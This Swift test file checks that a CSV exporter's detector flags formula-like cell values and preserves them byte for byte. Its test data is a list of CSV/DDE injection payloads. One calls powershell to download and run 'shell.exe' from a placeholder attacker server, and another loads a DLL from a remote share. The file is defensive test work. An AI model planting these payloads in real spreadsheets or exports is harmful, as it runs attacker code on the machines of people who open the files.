import Assurance
import Testing

@testable import Pack

/// What goes out is typed text, or lossless and said to be: OWASP, CSV Injection.
@Suite struct FormulaLikeTests {
  /// From payloadbox/csv-injection-payloads (MIT), and OWASP's list of first characters.
  static let payloads = [
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1", "+1+cmd|'x'!A0", "-2+3",
    "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=\"a\nb\"",
  ]

  @Test(arguments: payloads) func payloadsAreSeen(_ payload: String) {
    #expect(FormulaLikeText.isFormulaLike(payload))
    // The value is what it was, to the byte.
    let line = CanonicalCSV.line(["key", payload, "end"])
    let header = CanonicalCSV.line(["a", "b", "c"])
    let rows = try? CSVText.rows(header + line, columns: ["a", "b", "c"], place: "x")
    #expect(rows == [["key", payload, "end"]])
    #expect(FormulaLikeText.count(header + line + line) == 2)
  }

  @Test(arguments: ["-5", "+1.5e3", "-", "", "a=b", "5", "−5", "x@y", "'=1"])
  func othersAreNot(_ text: String) {
    #expect(!FormulaLikeText.isFormulaLike(text))
    #expect(FormulaLikeText.count(CanonicalCSV.line(["h"]) + CanonicalCSV.line([text])) == 0)
  }

  /// Names of columns are ours, and do not count.
  @Test func headersDoNotCount() {
    #expect(FormulaLikeText.count(CanonicalCSV.line(["=1+1", "@x"])) == 0)
  }
}
